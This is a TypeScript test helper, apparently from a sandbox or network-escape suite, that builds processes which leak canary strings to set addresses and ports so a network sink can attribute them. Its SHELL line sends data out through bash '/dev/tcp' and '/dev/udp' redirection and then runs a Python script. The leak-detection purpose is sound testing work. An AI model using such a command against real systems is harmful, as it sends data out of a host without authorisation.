/** Who leaks: how it is told from others, and what it runs from its first instruction on. Pure. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attribution } from '../../net/sink.ts';

const SCRIPT = readFileSync(join(import.meta.dirname, 'leaks.py'), 'utf8');
/** Nobody's: away from those of the escape suite. */
const FIRST_PORT = 22_000;
/** The shell's own datagram and connection come before any program is started. */
const SHELL = 'echo -n "$2" >"/dev/udp/$3/$5"; echo -n "$2" >"/dev/tcp/$3/$5"; exec python3 -SEB -c "$@"';

export interface Leaker {
  attribution: Attribution;
  v4: string;
  /** Leaks for so many seconds; 0: until it is killed. */
  command(seconds: number): string[];
}

/** `token` begins every canary of the suite; no two leakers of it share an index. */
export function leaker(token: string, name: string, index: number): Leaker {
  const canary = `${token}${String(index).padStart(3, '0')}`;
  const v4 = `203.0.121.${index + 1}`;
  const v6 = `2001:db8:121::${(index + 1).toString(16)}`;
  const port = FIRST_PORT + index;
  return {
    attribution: { name, canary, addresses: [v4, v6], groups: [], port },
    v4,
    command: (seconds) => ['bash', '-c', SHELL, '-', SCRIPT, canary, v4, v6, String(port), String(seconds)],
  };
}
